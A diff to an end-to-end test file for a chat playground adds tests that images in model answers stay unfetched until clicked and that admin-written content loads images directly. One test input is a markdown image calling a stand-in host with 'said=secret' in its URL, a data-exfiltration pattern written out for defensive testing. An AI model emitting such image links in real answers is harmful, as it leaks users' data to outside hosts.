@@ -10,6 +10,7 @@ beforeAll(async () => {
 })
 afterAll(() => scene?.close())
 
+const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
 const UNITS_PER_DOLLAR = 500_000
 
 test('an answer comes word by word, and its cost is that of the log row', async () => {
@@ -41,6 +42,50 @@ test('an answer comes word by word, and its cost is that of the log row', async 
   await page.reload()
   await watched.settled()
   await page.getByText('Tell me something long').first().waitFor()
+})
+
+// security 18
+test("an image in an answer is fetched when its button is clicked, and not before; the model's own data is shown", async () => {
+  const { page, field, say, button } = await scene.open('user', '/playground')
+  const fetched: string[] = []
+  await page.route('https://*.example/**', (route) => {
+    fetched.push(route.request().url())
+    return route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') })
+  })
+  await field('playground.placeholder').fill(
+    `Look ![one](https://one.example/?said=secret) [![two](https://two.example/2.png)](https://two.example/page) ![own](data:image/png;base64,${PIXEL})`,
+  )
+  await field('playground.placeholder').press('Enter')
+  await button('playground.copyAnswer').waitFor()
+  const load = (host: string) => page.getByRole('article').getByRole('button', { name: say('image.load', { host }) })
+  await load('one.example').waitFor()
+  await page.locator('article img[src^="data:image/png"]').waitFor()
+  await page.waitForTimeout(500)
+  expect(fetched).toEqual([])
+  expect(await page.locator('article img[src^="https:"]').count()).toBe(0)
+  await load('one.example').click()
+  await page.locator('article img[src^="https://one.example"]').waitFor()
+  await expect.poll(() => fetched).toEqual(['https://one.example/?said=secret'])
+  // One that stands in a link is shown in its place: the link is not followed.
+  await load('two.example').click()
+  await expect.poll(() => fetched.at(-1)).toBe('https://two.example/2.png')
+  expect(fetched).toHaveLength(2)
+  expect(page.context().pages()).toHaveLength(1)
+})
+
+test('what an admin wrote shows its images at once', async () => {
+  const { client } = scene.facts.members.root
+  await client.call('PUT', '/api/option/', { key: 'HomePageContent', value: '# Welcome\n\n![logo](https://logo.example/a.png)' })
+  const { page } = await scene.open('visitor', '/login')
+  const fetched: string[] = []
+  await page.route('https://logo.example/**', (route) => {
+    fetched.push(route.request().url())
+    return route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') })
+  })
+  await page.goto(`${scene.url}/`)
+  await page.getByRole('heading', { name: 'Welcome' }).waitFor()
+  await expect.poll(() => fetched).toEqual(['https://logo.example/a.png'])
+  await client.call('PUT', '/api/option/', { key: 'HomePageContent', value: '' })
 })
 
 test('an answer that is stopped stays, marked as not complete', async () => {
